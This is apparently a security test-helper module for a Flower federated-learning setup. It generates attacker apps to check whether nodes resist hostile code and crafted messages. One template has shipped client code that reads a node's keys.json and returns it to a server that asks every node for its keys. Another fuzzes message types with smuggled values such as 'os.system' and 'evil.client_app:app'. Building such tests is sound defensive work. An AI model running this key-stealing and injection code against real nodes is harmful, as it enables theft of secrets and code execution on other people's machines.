"""Apps of somebody who reaches a SuperLink's port: their code reads keys, their messages try everything."""

from __future__ import annotations

from pathlib import Path

PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"
[project]
name = "{name}"
version = "0.1.0"
license = "Apache-2.0"
dependencies = ["flwr"]
[tool.hatch.build.targets.wheel]
packages = ["{package}"]
[tool.flwr.app]
publisher = "me"
[tool.flwr.app.components]
serverapp = "{package}.server_app:app"
clientapp = "{package}.client_app:app"
[tool.flwr.app.config]
home = "out.txt"
"""
CLIENT = """\
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
Path("{mark}").write_text("the shipped code ran")
app = ClientApp()
@app.query("steal")
def steal(message, context):
    home = Path(str(context.node_config["fedq-home"]))
    return Message(RecordDict({{"got": ConfigRecord({{"keys": (home / "keys.json").read_text()}})}}), reply_to=message)
"""
STEALING = """\
from pathlib import Path
from flwr.app import Message, RecordDict
from flwr.serverapp import ServerApp
app = ServerApp()
@app.main()
def main(grid, context):
    asked = [Message(RecordDict(), dst_node_id=n, message_type="query.steal", ttl=300.0) for n in grid.get_node_ids()]
    out = ["error" if r.has_error() else str(r.content.config_records["got"]["keys"])[:60] for r in grid.send_and_receive(asked, timeout=300)]
    Path(str(context.run_config["home"])).write_text("\\n".join(out))
"""
KINDS = (
    *("train", "train.x", "evaluate", "query", "query.steal", "query.register", "query.contribute"),
    *("query.shares", "query.masked", "query.confirm", "query.unmask", "query.reply", "query.mro"),
)
TRYING = """\
from pathlib import Path
from flwr.app import ArrayRecord, ConfigRecord, Message, MetricRecord, RecordDict
from flwr.serverapp import ServerApp
import numpy as np
app = ServerApp()
KINDS = {kinds!r}
@app.main()
def main(grid, context):
    out, nodes = [], list(grid.get_node_ids())
    words = {{"fedq-home": "/tmp", "home": "/tmp", "app": "evil.client_app:app", "class_path": "os.system", "nonce": b"0" * 32, "kind": "register"}}
    large = np.zeros({large}, np.float32)
    contents = [lambda: RecordDict(), lambda: RecordDict({{"fedq": ConfigRecord(dict(words))}}), lambda: RecordDict({{"a": ArrayRecord([np.zeros(3, np.float32)]), "m": MetricRecord({{"x": 1}})}})]
    plans = [(kind, number, content) for kind in KINDS for number, content in enumerate(contents)]
    plans += [("train", 3, lambda: RecordDict({{"a": ArrayRecord([large])}}))] if {large} else []
    for kind, number, content in plans:
        asked = [Message(content(), dst_node_id=n, message_type=kind, ttl=240.0) for n in nodes]
        for r in grid.send_and_receive(asked, timeout=240):
            out.append(f"{{kind}} {{number}}: " + (f"error {{r.error.code}} {{r.error.reason}}" if r.has_error() else f"ANSWER {{dict(r.content)!r}}"[:300]))
        Path(str(context.run_config["home"])).write_text("\\n".join(out))
    Path(str(context.run_config["home"]) + ".done").touch()
"""


def write(folder: Path, mark: Path, server: str) -> Path:
    """An app whose shipped client code writes `mark` when it is imported."""
    package = folder.name
    (folder / package).mkdir(parents=True)
    (folder / "pyproject.toml").write_text(PYPROJECT.format(name=package.replace("_", "-"), package=package))
    (folder / package / "__init__.py").write_text("")
    (folder / package / "client_app.py").write_text(CLIENT.format(mark=mark))
    (folder / package / "server_app.py").write_text(server)
    return folder


def stealing(folder: Path, mark: Path) -> Path:
    """It asks every node for its keys."""
    return write(folder, mark, STEALING)


def trying(folder: Path, mark: Path, large: int = 0) -> Path:
    """It sends messages of 13 types with three contents each, and one of `large` floats."""
    return write(folder, mark, TRYING.format(kinds=KINDS, large=large))
